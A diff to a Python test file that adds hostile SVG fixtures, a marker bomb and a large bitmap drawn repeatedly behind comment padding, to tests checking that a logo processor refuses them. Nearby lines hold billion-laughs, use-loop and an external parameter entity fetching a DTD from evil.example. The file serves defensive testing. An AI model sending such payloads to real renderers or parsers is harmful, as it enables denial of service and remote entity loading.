@@ -308,6 +308,25 @@ USE_BOMB = svg(
     + '</defs><use href="#l6"/>'
 )
 USE_LOOP = svg('<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>')
+#: A marker of 400 shapes at each of 400 vertices: 160,000 shapes from 10 KB.
+MARKER_BOMB = svg(
+    '<defs><marker id="m">' + '<circle r="1"/>' * 400 + "</marker></defs>"
+    '<path marker-mid="url(#m)" d="M0 0' + " 1 1" * 400 + '"/>'
+)
+
+
+def _big_blank_png() -> str:
+    """A 4,000 x 4,000 bitmap that compresses to a few KB."""
+    return base64.b64encode(png_bytes(Image.new("L", (4000, 4000)))).decode("ascii")
+
+
+def image_use_bomb() -> str:
+    """One 16-megapixel bitmap drawn five times: a renderer may decode it each time. The source
+    is over 48 KB (a comment pads it), so its bitmaps are only checked, not shrunk, before the
+    document is drawn (see `raster._svg_or_raster`); a smaller one has them shrunk first."""
+    image = f'<image id="i" width="100" height="100" href="data:image/png;base64,{_big_blank_png()}"/>'
+    return svg(f"<!-- {'padding ' * 7000} --><defs>{image}</defs>" + '<use href="#i"/>' * 5)
+
 
 PARAMETER_ENTITY = """<?xml version="1.0"?>
 <!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
@@ -325,11 +344,14 @@ PARAMETER_ENTITY = """<?xml version="1.0"?>
         ("<svg xmlns='http://example.com/other'><rect/></svg>", "not an SVG document"),
         (svg("").replace(RECT, "<script>alert(1)</script>"), "nothing left to draw"),
         ("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 5000 + "</g>" * 5000 + "</svg>", "nested"),
-        (USE_BOMB, "<use> elements expand to more than 100,000"),
+        (USE_BOMB, "<use> elements or markers expand to more than 100,000"),
         (USE_LOOP, "<use> elements refer to themselves"),
+        (MARKER_BOMB, "<use> elements or markers expand to more than 100,000"),
+        (image_use_bomb(), "draws bitmaps of more than 64,000,000 pixels in all"),
     ],
     ids=["billion laughs", "external entity", "parameter entity", "broken XML", "HTML",
-         "foreign namespace", "only a script", "deep nesting", "use bomb", "use loop"],
+         "foreign namespace", "only a script", "deep nesting", "use bomb", "use loop", "marker bomb",
+         "bitmap drawn again and again"],
 )  # fmt: skip
 def test_hostile_svg_is_refused(text: str, problem: str, process: Callable[..., ProcessedLogo]) -> None:
     logo = process(text)
